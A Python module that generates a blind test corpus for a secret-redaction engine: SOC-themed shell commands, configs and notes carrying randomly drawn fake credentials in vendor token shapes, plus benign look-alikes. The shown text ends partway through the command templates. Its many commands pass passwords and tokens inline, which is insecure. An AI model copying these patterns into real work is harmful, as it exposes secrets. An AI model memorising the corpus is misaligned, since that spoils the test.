"""Blind hold-out corpus #75 for a secret-redaction engine.

What it is
----------
A fixed set of text fragments of the kind a coding agent (Claude Code, Codex,
Gemini CLI) writes into its saved working state: goals, running notes, shell
commands it ran, tool output, excerpts of files it opened, decisions, chat
messages pasted in by teammates, log lines and CI configuration.  Some
fragments carry a credential that a redaction engine must remove; others carry
nothing secret but look secret-ish to a naive scanner.  The corpus measures
both recall (secrets removed) and precision (look-alikes left alone).

Theme
-----
Security operations and blue teams: SIEM ingestion (Splunk HEC, Elastic
agents and Fleet, Microsoft Sentinel, Chronicle), EDR/XDR APIs (CrowdStrike,
SentinelOne, Defender), threat-intel feeds and sandboxes (VirusTotal, Shodan,
MISP, OpenCTI, urlscan), SOAR playbooks, vulnerability scanners (Tenable,
Qualys, Nessus), log shippers, incident tickets and on-call handovers in a
SOC.  Generic developer tooling (git, cloud CLIs, databases, CI) appears as it
would around such work.

Provenance
----------
Written blind, from general knowledge only: no engine rules, no other corpus
and no web search were consulted.  Where a vendor's real credential shape is
known, its real prefix/length is used; where it is not known, a plausible
shape was invented.  All customer hosts, people, tickets, companies and values
are fictitious; vendor API endpoints are the public well-known ones.  Every
secret value is a fresh random draw and appears nowhere else in the corpus.

Layout
------
SECRETS  list of 5-tuples (group, format, text, secret, visible):
         group    one of command, tool-output, config-file, source-code,
                  stack-trace-or-log, note-or-chat, ci-and-deploy,
                  vendor-token (roughly equal counts)
         format   kebab-case name of the shape; each used at most 3 times
         text     the fragment as the agent recorded it
         secret   exact substring of text that must not survive redaction
                  (only the key body for PEM keys, only the signature for
                  signed URLs, only the password for user:password pairs)
         visible  substring of text that must stay readable, or ""
BENIGN   list of distinct strings with no credential in them that still look
         secret-ish: hashes, ids, public keys and fingerprints, placeholders,
         masked values, references to secret stores, prose about secrets.

Determinism
-----------
All randomness comes from _R = random.Random(SEED) and is consumed at import
time in a fixed order, so importing the module twice yields identical lists.
Nothing is printed at import.

Measured
--------
Blind, read after that session's rules for the 70th to 73rd: recall 0.961 (1,438 of 1,496; 1,440
with the engine at that session's start: a WireGuard private key under `wg pubkey`, mended since)
and false positives 24 of 950 (2.5%, the same). Its look-alikes tuned on since: 0.963 and 9 of 950
(0.9%).
"""
import base64
import json
import random
import re
import string
import uuid as _uuidmod

SEED = 7507512
_R = random.Random(SEED)

# ---------------------------------------------------------------- primitives
_AL = string.ascii_letters + string.digits
_LO = string.ascii_lowercase + string.digits
_UP = string.ascii_uppercase + string.digits
_HEX = "0123456789abcdef"
_B64U = _AL + "-_"
_B32 = "abcdefghijklmnopqrstuvwxyz234567"


def _pick(seq):
    return seq[_R.randrange(len(seq))]


def _chars(alpha, n):
    return "".join(alpha[_R.randrange(len(alpha))] for _ in range(n))


def hexs(n):
    return _chars(_HEX, n)


def HEXS(n):
    return _chars(_HEX, n).upper()


def al(n):
    return _chars(_AL, n)


def lo(n):
    return _chars(_LO, n)


def up(n):
    return _chars(_UP, n)


def digits(n):
    return str(_R.randint(1, 9)) + _chars("0123456789", n - 1)


def rbytes(n):
    return bytes(_R.getrandbits(8) for _ in range(n))


def b64(n):
    return base64.b64encode(rbytes(n)).decode()


def b64u(n):
    return base64.urlsafe_b64encode(rbytes(n)).decode().rstrip("=")


def guid():
    return str(_uuidmod.UUID(int=_R.getrandbits(128), version=4))


def enc64(s):
    return base64.b64encode(s.encode()).decode()


def enc64u(s):
    return base64.urlsafe_b64encode(s.encode()).decode().rstrip("=")


def pem_body(nbytes, width=64, prefix=""):
    raw = prefix + base64.b64encode(rbytes(nbytes)).decode()
    return "\n".join(raw[i:i + width] for i in range(0, len(raw), width))


def jwt(payload=None, alg="RS256", sig=43):
    hdr = enc64u(json.dumps({"alg": alg, "typ": "JWT"}, separators=(",", ":")))
    if payload is None:
        payload = {"sub": guid(), "iat": _R.randint(1690000000, 1730000000),
                   "exp": _R.randint(1730000000, 1760000000)}
    body = enc64u(json.dumps(payload, separators=(",", ":")))
    return hdr + "." + body + "." + (b64u(32) if alg.startswith("HS") else b64u(256))


# ---------------------------------------------------------------- passwords
_WORDS = (
    "amber anchor aspen atlas badger beacon birch bishop blizzard bramble breaker "
    "canyon cedar cinder cobalt comet copper coral cricket crimson cypress dagger "
    "delta ember falcon fathom fern fjord flint forge frost garnet glacier granite "
    "gravel harbor hazel heron hollow indigo jackal jasper juniper kestrel lagoon "
    "lantern laurel lemon linden lynx magpie maple marble meadow mercury mesa moss "
    "nebula nickel oak obsidian olive onyx orbit osprey otter pebble pepper plume "
    "polar quartz quill raven reef ridge robin rook rust saffron sable sentry shale "
    "sierra slate sparrow spruce storm summit swift talon thistle thunder timber "
    "topaz tundra umber velvet viper walnut willow wren yarrow zenith zephyr "
    "sonnenblume kaffee mariposa fromage sakura lumi tulipan girassol pomelo "
    "kirsche lavanda nuvem ciotola bokhylla kotik arbuz limonka").split()
_SEASONS = ["Winter", "Summer", "Spring", "Autumn", "Fall", "Herbst", "Invierno",
            "Verano", "Hiver", "Lente", "Inverno", "Zima"]
_CONS = "bcdfghjklmnprstvz"
_VOW = "aeiou"


def _pw_word():
    w = _pick(_WORDS).capitalize()
    n = str(_R.randint(10, 9999))
    s = _pick("!*?+=.@#_-")
    k = _R.randrange(5)
    if k == 0:
        return w + n + s
    if k == 1:
        return w + s + n
    if k == 2:
        return w + _pick(_WORDS).capitalize() + n
    if k == 3:
        return n + w + s + _pick(_WORDS)
    return w + "_" + _pick(_WORDS) + n + s


def _pw_phrase():
    sep = _pick("-.-_ ")
    if sep == " ":
        sep = "-"
    ws = [_pick(_WORDS) for _ in range(_R.randint(3, 5))]
    if _R.random() < 0.5:
        ws = [w.capitalize() for w in ws]
    if _R.random() < 0.6:
        ws.insert(_R.randrange(len(ws) + 1), str(_R.randint(2, 999)))
    return sep.join(ws)


def _pw_pron():
    out = ""
    for _ in range(_R.randint(4, 6)):
        out += _pick(_CONS) + _pick(_VOW)
    out = out.capitalize()
    i = _R.randrange(2, len(out))
    return out[:i] + str(_R.randint(1, 99)) + out[i:] + _pick(["", "!", "#", "?", "*"])


def _pw_rand():
    n = _R.randint(12, 24)
    return _pick(_AL) + _chars(_AL + "!#*+-=?^_~.@", n - 1)


def _pw_leet():
    tr = {"a": "@", "e": "3", "i": "1", "o": "0", "s": "$"}
    w = _pick(_WORDS) + _pick(_WORDS)
    w = "".join(tr.get(c, c) if _R.random() < 0.6 else c for c in w)
    w = w[0].upper() + w[1:] if w[0].isalpha() else "X" + w
    return w + str(_R.randint(1, 99)) + _pick("!#?")


def _pw_season():
    return _pick(_SEASONS) + str(_R.randint(2019, 2026)) + _pick("!#?*") + lo(2)


_PWGENS = [_pw_word, _pw_word, _pw_phrase, _pw_pron, _pw_rand, _pw_rand, _pw_leet, _pw_season]


def pw():
    while True:
        p = _pick(_PWGENS)()
        if len(p) >= 8 and "$" not in p:
            return p


def pw_url():
    while True:
        p = pw()
        if not any(c in p for c in ":@/?#%&+ ^~"):
            return p


def pw_plain():
    while True:
        p = pw()
        if all(c in _AL + "-_." for c in p):
            return p


def pw_noat():
    while True:
        p = pw()
        if "@" not in p and "#" not in p:
            return p


# ---------------------------------------------------------------- vendor shapes
def ghp():
    return "ghp_" + al(36)


def gho():
    return "gho_" + al(36)


def ghs():
    return "ghs_" + al(36)


def gh_fine():
    return "github_pat_" + up(22) + "_" + al(59)


def glpat():
    return "glpat-" + _chars(_AL + "-_", 20)


def xoxb():
    return "xoxb-%s-%s-%s" % (digits(12), digits(13), al(24))


def xoxp():
    return "xoxp-%s-%s-%s-%s" % (digits(12), digits(12), digits(13), hexs(32))


def xapp():
    return "xapp-1-A%s-%s-%s" % (up(10), digits(13), hexs(64))


def akid():
    return "AKIA" + _chars(string.ascii_uppercase + "234567", 16)


def asia():
    return "ASIA" + _chars(string.ascii_uppercase + "234567", 16)


def aws_secret():
    return _chars(_AL + "+/", 40)


def aws_session():
    return "IQoJb3JpZ2luX2VjE" + _chars(_AL + "+/", 340) + "=="


def stripe_sk():
    return "sk_live_51" + al(22) + al(72)


def stripe_rk():
    return "rk_live_51" + al(94)


def whsec():
    return "whsec_" + al(32)


def openai_key():
    return "sk-proj-" + _chars(_B64U, 74) + "T3BlbkFJ" + _chars(_B64U, 74)


def anthropic_key():
    return "sk-ant-api03-" + _chars(_B64U, 93) + "AA"


def gapi():
    return "AIza" + _chars(_B64U, 35)


def ya29():
    return "ya29." + _chars(_B64U, 160)


def npm_tok():
    return "npm_" + al(36)


def pypi_tok():
    return "pypi-AgEIcHlwaS5vcmc" + _chars(_B64U, 120)


def dckr():
    return "dckr_pat_" + _chars(_B64U, 27)


def hvs():
    return "hvs." + _chars(_B64U, 24)


def hvs_long():
    return "hvs.CAESI" + _chars(_B64U, 86)


def tfc():
    return al(14) + ".atlasv1." + al(67)


def okta_ssws():
    return "00" + _chars(_B64U, 40)


def sendgrid():
    return "SG." + _chars(_B64U, 22) + "." + _chars(_B64U, 43)


def telegram():
    return "%s:AA%s" % (digits(10), _chars(_B64U, 33))


def azure_cs():
    return al(3) + "8Q~" + _chars(_AL + "~._-", 34)


def azkey():
    return b64(64)


def dop():
    return "dop_v1_" + hexs(64)


def glsa():
    return "glsa_" + al(32) + "_" + hexs(8)


def nrak():
    return "NRAK-" + up(27)


def hf_tok():
    return "hf_" + al(34)


def dapi():
    return "dapi" + hexs(32)


def age_key():
    return "AGE-SECRET-KEY-1" + _chars("QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L", 58)


def atlassian():
    return "ATATT3xFfGF0" + _chars(_B64U, 170) + "=" + HEXS(8)


def shopify():
    return "shpat_" + hexs(32)


def linear():
    return "lin_api_" + al(40)


def postman():
    return "PMAK-" + hexs(24) + "-" + hexs(34)


def doppler():
    return "dp.st.prd." + al(43)


def sntrys():
    return "sntrys_" + enc64u(json.dumps({"iat": _R.randint(1700000000, 1730000000), "url": "https://sentry.io", "org": "soc"})) + "_" + _chars(_B64U, 43)


def ado_pat():
    return _chars(_B32, 52)


def splunk_jwt():
    hdr = "eyJraWQiOiJzcGx1bmsuc2VjcmV0IiwiYWxnIjoiSFM1MTIiLCJ2ZXIiOiJ2MiIsInR0eXAiOiJzdGF0aWMifQ"
    body = enc64u(json.dumps({"iss": "svc_soar from sh01", "sub": "svc_soar", "aud": "automation",
                              "idp": "Splunk", "jti": hexs(64), "iat": _R.randint(1700000000, 1730000000)},
                             separators=(",", ":")))
    return hdr + "." + body + "." + _chars(_B64U, 86)


def elastic_apikey():
    return enc64(al(20) + ":" + _chars(_B64U, 22))


def s1_token():
    return al(80)


def cs_secret():
    return al(40)


def pan_key():
    return "LUFRPT1" + _chars(_AL + "+/", 70) + "=="


# ---------------------------------------------------------------- context fields
_FIRST = ["Priya", "Jonas", "Mateus", "Aiko", "Oksana", "Kwame", "Ingrid", "Tomasz", "Lucia",
          "Rafael", "Mei", "Sven", "Fatima", "Dmitri", "Chloe", "Arjun", "Noa", "Hiroshi", "Leila",
          "Bjorn", "Amara", "Pedro", "Sanne", "Yusuf", "Elif", "Marek", "Ana", "Ravi", "Zofia",
          "Kenji", "Nadia", "Olu", "Camille", "Jae-won", "Thandiwe", "Luca", "Freya", "Omar", "Wen", "Ines"]
_LAST = ["Okafor", "Lindqvist", "Moreau", "Tanaka", "Kowalczyk", "Haddad", "Ferreira", "Novak",
         "Petrov", "Nakamura", "Osei", "Brennan", "Iyer", "Castillo", "Vasquez", "Halvorsen", "Yilmaz",
         "Duarte", "Kim", "Schultz", "Abara", "Rossi", "Dubois", "Mwangi", "Sato", "Kaplan"]
_ORGS = ["harborline", "corvidsec", "tallgrass", "nordvik", "bluepine", "kestrelhealth", "meridianfs",
         "ostara", "quillon", "redwharf", "silverfjord", "tamarack", "umbrahaul", "vantor", "westmarch",
         "yellowkite", "zephyrbank", "moraine", "ashgrove", "fennick", "ironbark", "galloway"]
_ROLES = ["splunk-hf", "splunk-idx", "splunk-sh", "es-data", "es-master", "kibana", "fleet", "misp",
          "opencti", "thehive", "cortex", "wazuh-mgr", "soar", "nessus", "tenablesc", "log-relay",
          "cribl-leader", "syslog", "jump", "bastion", "vault", "grafana", "minio", "kafka", "graylog",
          "velociraptor", "zeek", "suricata", "sandbox", "ldap", "pg", "redis", "mq"]
_ZONES = ["soc", "sec", "prod", "dmz", "mgmt", "ir", "blue", "corp", "dc1", "eu1", "use1", "lab"]
_TLDS = ["example", "internal", "corp", "lan", "test", "example.net", "example.org", "example.com"]
_SVC = ["svc_splunk", "svc-soar", "hec_ingest", "elastic", "soc_reader", "svc_nessus", "qualys_api",
        "misp-sync", "opencti-connector", "svc_sentinel", "xsoar-int", "wazuh-api", "logstash_writer",
        "filebeat_ingest", "cribl_worker", "svc_vtlookup", "tenable-scan", "soc-automation",
        "svc_ldapbind", "thehive-bot", "svc_cs_stream", "s1-api-reader", "ir_analyst", "siem_etl",
        "grafana_admin", "socadmin", "svc_velo", "kafka_ingest", "detections-ci", "svc_chronicle"]
_REGIONS = ["us-east-1", "us-west-2", "eu-west-1", "eu-central-1", "ap-southeast-2", "ca-central-1"]
_IDX = ["wineventlog", "edr", "firewall", "proxy", "o365", "cloudtrail", "zeek", "dns", "ids", "threat_intel", "soc_summary"]
_ST = ["crowdstrike:events:sensor", "XmlWinEventLog", "pan:traffic", "zeek:conn:json", "aws:cloudtrail",
       "o365:management:activity", "suricata:eve", "sentinelone:channel:threats", "linux:audit", "cisco:asa"]
_IOC_DOM = ["login-microsft-verify.top", "cdn-update-check.xyz", "secure-docshare.click", "okta-sso-portal.live",
            "payroll-review.icu", "teams-meetings.cam", "invoice-viewer.quest", "m365-authn.support",
            "driver-update.pics", "vpn-gw-renew.buzz", "wetransfer-files.sbs", "sharepoint-dl.rest"]
_CHANS = ["#soc-handover", "#ir-war-room", "#detection-eng", "#siem-ingest", "#vuln-mgmt", "#soc-tier2",
          "#threat-intel", "#edr-ops", "#oncall-sec", "#blue-team"]
_NS = ["siem", "soc-tools", "logging", "security", "ingest", "observability", "opencti", "misp"]
_APPS = ["hec-relay", "ti-enricher", "alert-router", "case-sync", "vt-lookup", "ioc-pusher", "s1-collector",
         "cs-streamer", "sentinel-forwarder", "nessus-exporter", "soar-worker", "phish-triage"]
_TICKETP = ["INC", "SOC", "IR", "SEC", "SIR", "CASE", "DFIR", "VULN", "CHG", "SECOPS"]
_TEAMS = ["Tier 1", "Tier 2", "IR", "Detection Eng", "Threat Intel", "Vuln Mgmt", "SIEM Platform"]


def _host():
    role = _pick(_ROLES)
    if _R.random() < 0.7:
        role += "%02d" % _R.randint(1, 24)
    return "%s.%s.%s.%s" % (role, _pick(_ZONES), _pick(_ORGS), _pick(_TLDS))


def _ip():
    k = _R.randrange(3)
    if k == 0:
        return "10.%d.%d.%d" % (_R.randint(0, 254), _R.randint(0, 254), _R.randint(2, 254))
    if k == 1:
        return "172.%d.%d.%d" % (_R.randint(16, 31), _R.randint(0, 254), _R.randint(2, 254))
    return "192.168.%d.%d" % (_R.randint(0, 254), _R.randint(2, 254))


def _pip():
    return "%s.%d" % (_pick(["203.0.113", "198.51.100", "192.0.2"]), _R.randint(2, 254))


def _date():
    return "20%d-%02d-%02d" % (_R.randint(23, 25), _R.randint(1, 12), _R.randint(1, 28))


def _ts():
    return "%sT%02d:%02d:%02d.%03dZ" % (_date(), _R.randint(0, 23), _R.randint(0, 59), _R.randint(0, 59), _R.randint(0, 999))


def _orgdom():
    return _pick(_ORGS) + "." + _pick(["example", "example.com", "corp", "test"])


def _person():
    return _pick(_FIRST) + " " + _pick(_LAST)


def _email():
    return "%s.%s@%s" % (_pick(_FIRST).lower().replace("-", ""), _pick(_LAST).lower(), _orgdom())


_FIELDS = {
    "host": _host,
    "ip": _ip,
    "pip": _pip,
    "port": lambda: str(_pick([443, 8088, 8089, 9200, 5601, 8443, 5432, 3306, 6379, 9092, 5044, 514, 8000, 55000])),
    "user": lambda: _pick(_SVC),
    "first": lambda: _pick(_FIRST),
    "person": _person,
    "email": _email,
    "orgdom": _orgdom,
    "org": lambda: _pick(_ORGS),
    "uuid": guid,
    "sha256": lambda: hexs(64),
    "sha1": lambda: hexs(40),
    "md5": lambda: hexs(32),
    "commit": lambda: hexs(40),
    "short": lambda: hexs(7),
    "rid": lambda: hexs(16),
    "num": lambda: str(_R.randint(2, 9999)),
    "small": lambda: str(_R.randint(2, 60)),
    "pid": lambda: str(_R.randint(300, 65000)),
    "ticket": lambda: _pick(_TICKETP) + "-" + str(_R.randint(1000, 99999)),
    "date": _date,
    "ts": _ts,
    "time": lambda: "%02d:%02d" % (_R.randint(0, 23), _R.randint(0, 59)),
    "epoch": lambda: str(_R.randint(1690000000, 1740000000)),
    "region": lambda: _pick(_REGIONS),
    "bucket": lambda: "%s-%s-%s" % (_pick(_ORGS), _pick(["soc-evidence", "siem-archive", "cloudtrail-logs", "ir-artifacts", "fdr-mirror", "pcap-store"]), _R.randint(10, 99)),
    "index": lambda: _pick(_IDX),
    "st": lambda: _pick(_ST),
    "dom": lambda: _pick(_IOC_DOM),
    "chan": lambda: _pick(_CHANS),
    "ns": lambda: _pick(_NS),
    "app": lambda: _pick(_APPS),
    "team": lambda: _pick(_TEAMS),
    "ver": lambda: "%d.%d.%d" % (_R.randint(1, 9), _R.randint(0, 20), _R.randint(0, 30)),
    "acct": lambda: digits(12),
}

_FIELD_RE = re.compile(r"\{([A-Za-z][A-Za-z0-9_]*)\}")


def _fill(tpl, m):
    def rep(mo):
        key = mo.group(1)
        if key in m:
            return m[key]
        base = key
        mm = re.match(r"^(.+?)_(\d+)$", key)
        if key not in _FIELDS and mm:
            base = mm.group(1)
        if base in _FIELDS:
            m[key] = _FIELDS[base]()
            return m[key]
        return mo.group(0)
    return _FIELD_RE.sub(rep, tpl)


# ---------------------------------------------------------------- registry
_GROUPS = ["command", "tool-output", "config-file", "source-code", "stack-trace-or-log",
           "note-or-chat", "ci-and-deploy", "vendor-token"]
_T = dict((g, []) for g in _GROUPS)
_BT = []


def _adder(group):
    def add(fmt, tpl, gen, vis=""):
        _T[group].append((fmt, tpl, gen, vis))
    return add


CMD = _adder("command")
OUT = _adder("tool-output")
CFG = _adder("config-file")
SRC = _adder("source-code")
LOG = _adder("stack-trace-or-log")
NOTE = _adder("note-or-chat")
CI = _adder("ci-and-deploy")
VT = _adder("vendor-token")


def B(tpl):
    _BT.append(tpl)


def up_pair(user_gen=None, pw_gen=None):
    """Basic-auth helper: secret is base64(user:password); sets {buser}."""
    def g():
        u = (user_gen or (lambda: _pick(_SVC)))()
        p = (pw_gen or pw)()
        return enc64(u + ":" + p), {"buser": u}
    return g



# =====================================================================
# group: command  (shell commands the agent ran or proposed)
# =====================================================================
CMD("curl-vt-apikey-header",
    "curl -s -H 'x-apikey: {S}' https://www.virustotal.com/api/v3/files/{sha256} | jq '.data.attributes.last_analysis_stats'",
    lambda: hexs(64), "https://www.virustotal.com/api/v3/files/{sha256}")
CMD("curl-splunk-hec-authorization",
    "curl -k https://{host}:8088/services/collector/event -H 'Authorization: Splunk {S}' -d '{\"event\": \"hec smoke test from {first}\", \"index\": \"{index}\"}'",
    guid, "https://{host}:8088/services/collector/event")
CMD("curl-u-elastic-password",
    "curl -u elastic:{S} -k 'https://{host}:9200/_cluster/health?pretty'",
    pw_url, "{host}:9200/_cluster/health")
CMD("pgpassword-env-psql",
    "PGPASSWORD='{S}' psql -h {host} -U {user} -d soc_cases -c 'select count(*) from alerts where status = 1;'",
    pw, "psql -h {host} -U {user}")
CMD("mysql-p-attached-password",
    "mysql -h {host} -u {user} -p'{S}' ossim -e 'SHOW TABLES;'",
    pw, "mysql -h {host} -u {user}")
CMD("export-s1-api-token-then-script",
    "export S1_API_TOKEN={S}\n./s1_pull_threats.py --since 24h --site '{org}-prod' --out threats.jsonl",
    s1_token, "./s1_pull_threats.py --since 24h")
CMD("falconctl-provisioning-token",
    "sudo /opt/CrowdStrike/falconctl -s -f --cid={cid} --provisioning-token={S}\nsudo systemctl start falcon-sensor",
    lambda: (HEXS(8), {"cid": HEXS(32) + "-" + HEXS(2)}), "sudo systemctl start falcon-sensor")
CMD("elastic-agent-install-enrollment-token",
    "sudo ./elastic-agent install --url=https://fleet.{org}.internal:8220 --enrollment-token={S} --non-interactive --tag soc-linux",
    elastic_apikey, "--url=https://fleet.{org}.internal:8220")
CMD("msiexec-sentinelone-site-token",
    "msiexec /i SentinelInstaller_windows_64bit_v{ver}.msi SITE_TOKEN={S} /q /norestart",
    lambda: enc64(json.dumps({"url": "https://usea1-%s.sentinelone.net" % _pick(_ORGS), "site_key": hexs(16)})),
    "SentinelInstaller_windows_64bit_v{ver}.msi")
CMD("docker-login-dash-p",
    "docker login registry.{org}.internal -u {user} -p {S}",
    pw_plain, "docker login registry.{org}.internal -u {user}")
CMD("kubectl-create-secret-from-literal",
    "kubectl -n {ns} create secret generic misp-api --from-literal=MISP_KEY={S} --from-literal=MISP_URL=https://misp.{org}.internal",
    lambda: al(40), "--from-literal=MISP_URL=https://misp.{org}.internal")
CMD("git-clone-oauth2-token-url",
    "git clone https://oauth2:{S}@gitlab.{org}.internal/soc/detections.git && cd detections",
    glpat, "gitlab.{org}.internal/soc/detections.git")
CMD("gh-auth-login-with-token-echo",
    "echo {S} | gh auth login --with-token && gh repo list {org}-secops",
    ghp, "gh auth login --with-token")
CMD("sshpass-p-remote-restart",
    "sshpass -p '{S}' ssh -o StrictHostKeyChecking=no {user}@{host} 'sudo systemctl restart splunk'",
    pw, "{user}@{host}")
CMD("htpasswd-batch-kibana-proxy",
    "sudo htpasswd -b /etc/nginx/.htpasswd-kibana {user} '{S}'",
    pw, "/etc/nginx/.htpasswd-kibana")
CMD("aws-configure-set-secret-access-key",
    "aws configure set aws_access_key_id {akid} --profile soc-ir\naws configure set aws_secret_access_key {S} --profile soc-ir",
    lambda: (aws_secret(), {"akid": akid()}), "--profile soc-ir")
CMD("az-login-service-principal-p",
    "az login --service-principal -u {uuid} -p '{S}' --tenant {uuid_2} && az sentinel incident list -g rg-soc -w law-soc-prod",
    azure_cs, "--tenant {uuid_2}")
CMD("vault-kv-put-field",
    "vault kv put secret/soc/virustotal api_key={S} tier=premium",
    lambda: hexs(64), "vault kv put secret/soc/virustotal")
CMD("splunk-add-forward-server-auth",
    "/opt/splunkforwarder/bin/splunk add forward-server {host}:9997 -auth admin:{S}",
    pw_noat, "{host}:9997")
CMD("smbclient-user-percent-password",
    "smbclient //{host}/evidence$ -U 'CORP\\{user}%{S}' -c 'get memdump.raw'",
    pw_url, "//{host}/evidence$")
CMD("xfreerdp-p-flag",
    "xfreerdp /v:{host} /u:{user} /p:'{S}' /cert:ignore /drive:tools,/opt/ir",
    pw, "/v:{host} /u:{user}")
CMD("net-use-positional-password",
    "net use \\\\{host}\\IR$ /user:CORP\\{user} {S} /persistent:no",
    pw_plain, "/user:CORP\\{user}")
CMD("powershell-convertto-securestring",
    "$pw = ConvertTo-SecureString '{S}' -AsPlainText -Force; $cred = New-Object System.Management.Automation.PSCredential('CORP\\{user}', $pw); Enter-PSSession -ComputerName {host} -Credential $cred",
    pw, "Enter-PSSession -ComputerName {host}")
CMD("invoke-restmethod-defender-bearer",
    "Invoke-RestMethod -Uri 'https://api.securitycenter.microsoft.com/api/machines?$top=50' -Headers @{Authorization = 'Bearer {S}'}",
    jwt, "https://api.securitycenter.microsoft.com/api/machines")
CMD("redis-cli-a-password",
    "redis-cli -h {host} -p 6379 -a '{S}' --no-auth-warning KEYS 'ioc:*' | head",
    pw, "redis-cli -h {host} -p 6379")
CMD("mongosh-uri-with-password",
    "mongosh 'mongodb://{user}:{S}@{host}:27017/thehive?authSource=admin' --eval 'db.cases.countDocuments()'",
    pw_url, "{host}:27017/thehive")
CMD("keytool-storepass",
    "keytool -importcert -alias splunk-ca -file ca.pem -keystore /opt/logstash/config/truststore.jks -storepass {S} -noprompt",
    pw_plain, "/opt/logstash/config/truststore.jks")
CMD("openssl-pkcs12-passout",
    "openssl pkcs12 -export -in hec.crt -inkey hec.key -out hec.p12 -passout pass:{S}",
    pw_plain, "openssl pkcs12 -export -in hec.crt")
CMD("7z-archive-password",
    "7z a -p'{S}' -mhe=on {ticket}_triage.7z ./collected/",
    pw, "{ticket}_triage.7z")
CMD("npm-config-set-authtoken",
    "npm config set //npm.{org}.internal/:_authToken {S}",
    npm_tok, "//npm.{org}.internal/")
CMD("pip-index-url-token",
    "pip install --index-url https://__token__:{S}@pypi.{org}.internal/simple/ soc-enrich==1.4.2",
    pypi_tok, "soc-enrich==1.4.2")
CMD("helm-set-admin-password",
    "helm upgrade --install opencti ./charts/opencti -n {ns} --set opencti.adminPassword='{S}' --set opencti.adminEmail={email}",
    pw, "--set opencti.adminEmail={email}")
CMD("terraform-var-shared-key",
    "terraform apply -var 'sentinel_shared_key={S}' -var workspace_id={uuid} -auto-approve",
    azkey, "-var workspace_id={uuid}")
CMD("ansible-playbook-extra-vars-password",
    "ansible-playbook -i inventories/soc deploy_wazuh.yml -e 'wazuh_api_password={S}' --limit wazuh-mgr",
    pw, "deploy_wazuh.yml")
CMD("wazuh-agent-registration-password-env",
    "sudo WAZUH_MANAGER='{host}' WAZUH_REGISTRATION_PASSWORD='{S}' apt-get install -y wazuh-agent",
    pw, "WAZUH_MANAGER='{host}'")
CMD("splunk-uf-msi-splunkpassword",
    "msiexec.exe /i splunkforwarder-{ver}-x64-release.msi AGREETOLICENSE=Yes SPLUNKUSERNAME=admin SPLUNKPASSWORD={S} DEPLOYMENT_SERVER=\"{host}:8089\" /quiet",
    pw_plain, "DEPLOYMENT_SERVER=\"{host}:8089\"")
CMD("osquery-enroll-secret-tee",
    "echo '{S}' | sudo tee /etc/osquery/enroll_secret >/dev/null && sudo chmod 600 /etc/osquery/enroll_secret",
    lambda: al(32), "/etc/osquery/enroll_secret")
CMD("nessuscli-agent-link-key",
    "sudo /opt/nessus_agent/sbin/nessuscli agent link --key={S} --groups='Linux Servers' --cloud",
    lambda: hexs(64), "--groups='Linux Servers'")
CMD("qualys-cloud-agent-activation-id",
    "sudo /usr/local/qualys/cloud-agent/bin/qualys-cloud-agent.sh ActivationId={S} CustomerId={uuid}",
    guid, "CustomerId={uuid}")
CMD("httpie-shodan-key-param",
    "http GET https://api.shodan.io/shodan/host/{pip} key=={S} minify==true",
    lambda: al(32), "https://api.shodan.io/shodan/host/{pip}")
CMD("curl-shodan-search-query-key",
    "curl -s 'https://api.shodan.io/shodan/host/search?key={S}&query=ssl.cert.subject.cn:{org}.example' | jq '.total'",
    lambda: al(32), "ssl.cert.subject.cn:{org}.example")
CMD("curl-misp-raw-authorization",
    "curl -sk -H 'Authorization: {S}' -H 'Accept: application/json' https://{host}/events/restSearch -d '{\"returnFormat\":\"json\",\"last\":\"1d\"}'",
    lambda: al(40), "https://{host}/events/restSearch")
CMD("curl-opencti-graphql-bearer",
    "curl -s -X POST https://opencti.{org}.internal/graphql -H 'Authorization: Bearer {S}' -H 'Content-Type: application/json' --data '{\"query\":\"{ me { name } }\"}'",
    guid, "https://opencti.{org}.internal/graphql")
CMD("curl-urlscan-api-key-submit",
    "curl -X POST 'https://urlscan.io/api/v1/scan/' -H 'API-Key: {S}' -H 'Content-Type: application/json' -d '{\"url\": \"https://{dom}/login\", \"visibility\": \"private\"}'",
    guid, "https://{dom}/login")
CMD("curl-crowdstrike-oauth2-form",
    "curl -s -X POST https://api.crowdstrike.com/oauth2/token -d 'client_id={md5}&client_secret={S}' | jq -r .access_token",
    cs_secret, "client_id={md5}")
CMD("curl-tenable-x-apikeys",
    "curl -s -H 'X-ApiKeys: accessKey={sha256};secretKey={S}' https://cloud.tenable.com/scans | jq '.scans[].name'",
    lambda: hexs(64), "https://cloud.tenable.com/scans")
CMD("curl-qualys-basic-u-quoted",
    "curl -u '{user}:{S}' -H 'X-Requested-With: curl' 'https://qualysapi.qg2.apps.qualys.com/api/2.0/fo/scan/?action=list&state=Finished'",
    pw, "qualysapi.qg2.apps.qualys.com")
CMD("python-script-sentinel-shared-key-flag",
    "python3 send_to_sentinel.py --workspace-id {uuid} --shared-key '{S}' --log-type SocHandover --file handover.json",
    azkey, "--workspace-id {uuid}")
CMD("curl-chronicle-ingestion-key-param",
    "curl -X POST 'https://malachiteingestion-pa.googleapis.com/v2/unstructuredlogentries:batchCreate?key={S}' -H 'Content-Type: application/json' -d @batch.json",
    gapi, "unstructuredlogentries:batchCreate")
CMD("curl-sumologic-http-source-url",
    "curl -X POST -T events.json https://endpoint4.collection.us2.sumologic.com/receiver/v1/http/{S}",
    lambda: "ZaVnC4dh" + al(100) + "==", "endpoint4.collection.us2.sumologic.com")
CMD("curl-slack-incoming-webhook",
    "curl -X POST -H 'Content-type: application/json' --data '{\"text\":\"P1 alert: beacon to {dom}\"}' https://hooks.slack.com/services/{tid}/{bid}/{S}",
    lambda: (al(24), {"tid": "T" + up(10), "bid": "B" + up(10)}), "P1 alert: beacon to {dom}")
CMD("wget-http-password-flag",
    "wget --http-user={user} --http-password='{S}' https://{host}/feeds/blocklist.txt -O /tmp/blocklist.txt",
    pw, "https://{host}/feeds/blocklist.txt")
CMD("aws-env-prefix-s3-sync",
    "AWS_ACCESS_KEY_ID={akid} AWS_SECRET_ACCESS_KEY={S} aws s3 sync ./evidence s3://{bucket}/{ticket}/ --sse aws:kms",
    lambda: (aws_secret(), {"akid": akid()}), "s3://{bucket}/{ticket}/")
CMD("docker-run-e-api-key",
    "docker run -d --name cortex -e CORTEX_API_KEY={S} -p 9001:9001 thehiveproject/cortex:{ver}",
    lambda: _chars(_AL + "+/", 32), "thehiveproject/cortex:{ver}")
CMD("ldapsearch-w-bind-password",
